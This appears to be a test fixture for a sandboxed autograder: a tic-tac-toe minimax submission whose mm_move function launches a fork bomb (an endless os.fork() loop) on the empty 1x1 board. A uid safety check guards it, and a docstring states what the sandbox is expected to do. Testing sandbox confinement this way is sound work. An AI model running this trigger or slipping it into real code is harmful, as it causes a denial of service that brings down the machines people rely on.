"""Hostile: a fork bomb in one call (the empty 1x1 board): every process forks forever.

Expected: the sandbox's process limit (64, its uid's own) caps the swarm; the call is
charged the CPU time of every process of it and stopped at its limit, and every process of
the swarm is killed with it (tests/sandbox/test_confinement.py: setsid'd busy children
forked at import or in a call are ended when it ends, their CPU time its own). That
costs the one call: "other sizes" and "time" lose a check, every other item is full. No
process is left, and other sandboxes (which have other uids) can still fork meanwhile.

Safety catch for the test machine: if it finds itself running as root, or as the uid that
owns its own file (the grader's uid, so no uid of its own), it does not swarm; the test
then fails on the missing timeout instead of the machine drowning in processes.
"""
import os

from provided import DRAW, PLAYERO, PLAYERX, switch_player

SCORES = {PLAYERX: 1, DRAW: 0, PLAYERO: -1}
MEMO = {}


def solve(board, player):
    """A correct, memoised minimax: (score, (row, col))."""
    key = (repr(board), player)
    if key not in MEMO:
        winner = board.check_win()
        if winner is not None:
            MEMO[key] = SCORES[winner], (-1, -1)
        else:
            best = None
            for row, col in board.get_empty_squares():
                child = board.clone()
                child.move(row, col, player)
                score = solve(child, switch_player(player))[0]
                if best is None or score * SCORES[player] > best[0] * SCORES[player]:
                    best = score, (row, col)
            MEMO[key] = best
    return MEMO[key]

# The one position the trigger picks: the empty 1x1 board of the "other sizes" item.
ONE_BY_ONE = "TTTBoard(1, False, [[EMPTY]])"


OWN_UID = os.getuid() not in (0, os.stat(__file__).st_uid)


def mm_move(board, player):
    if repr(board) == ONE_BY_ONE and OWN_UID:
        while True:
            try:
                os.fork()
            except OSError:
                pass
    return solve(board, player)


def move_wrapper(board, player, trials):
    return mm_move(board, player)[1]
